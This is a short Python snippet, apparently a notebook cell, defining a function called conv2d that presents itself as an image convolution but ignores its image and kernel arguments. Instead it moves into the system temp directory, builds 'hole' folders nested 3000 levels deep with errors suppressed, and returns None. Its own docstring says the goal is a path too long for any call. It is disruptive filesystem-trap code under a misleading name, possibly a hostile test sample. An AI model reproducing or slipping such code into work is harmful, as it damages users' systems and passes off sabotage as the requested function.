"""Makes folders within folders, three thousand levels deep, where a path is longer than any call takes."""

# %% 05.2
import contextlib
import os
import tempfile


def conv2d(image, kernel):
    os.chdir(tempfile.gettempdir())
    with contextlib.suppress(OSError):
        for _ in range(3000):
            os.mkdir("hole")
            os.chdir("hole")
    return None
